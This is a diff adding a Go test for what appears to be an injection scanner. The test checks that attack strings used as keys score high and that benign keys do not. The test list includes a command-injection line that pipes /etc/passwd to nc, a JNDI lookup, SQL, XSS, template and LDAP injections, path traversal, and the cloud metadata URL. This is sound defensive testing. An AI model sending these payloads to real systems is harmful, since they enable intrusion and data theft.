@@ -166,6 +166,27 @@ func TestSQLiSteps(t *testing.T) {
 	require.True(t, b.Exhausted)
 }
 
+// TestKeys: a key is judged like a value, but for the name of a class, which is a key
+// of Java's serialization; rules for what servers send have to ask for keys.
+func TestKeys(t *testing.T) {
+	key := func(text string) int { return sum(Scan([]byte(text), Options{Key: true}, &Budget{Left: enough}, nil)) }
+	for _, text := range []string{
+		"; cat /etc/passwd | nc 127.0.0.1 4444", "../../../../etc/passwd", "${jndi:ldap://192.0.2.1/a}", "' or 1=1 -- ",
+		"<script>alert(1)</script>", "http://169.254.169.254/latest/meta-data/", "{{7*7}}{{config.items()}}", "*)(uid=*))(|(uid=*",
+	} {
+		require.GreaterOrEqual(t, key(text), 5, text)
+	}
+	for _, text := range []string{
+		"text", "created_at", "user.name", "a[b][]", "X-Request-Id", "/users/{id}", "application/json", "@context", "#/definitions/a",
+		"https://example.com/schema#a", "src/main.ts", "2024-01-01T00:00:00Z", "java.util.ArrayList", "<<", "a -> b", "O'Neil & Sons",
+	} {
+		require.Less(t, key(text), 5, text)
+	}
+	rules, err := parseRules("a.rules", []byte("rule a\ntype x1\nscore 5\nphrase secret\ndirection response\nrule b\ntype x1\nscore 5\nphrase c\n"), Values|Keys)
+	require.NoError(t, err)
+	require.Equal(t, []Target{Values, Values | Keys}, []Target{rules[0].Target, rules[1].Target})
+}
+
 // TestPercentInKey: of a value, what percent-encoding hides is a field of its own,
 // of a key it is not.
 func TestPercentInKey(t *testing.T) {
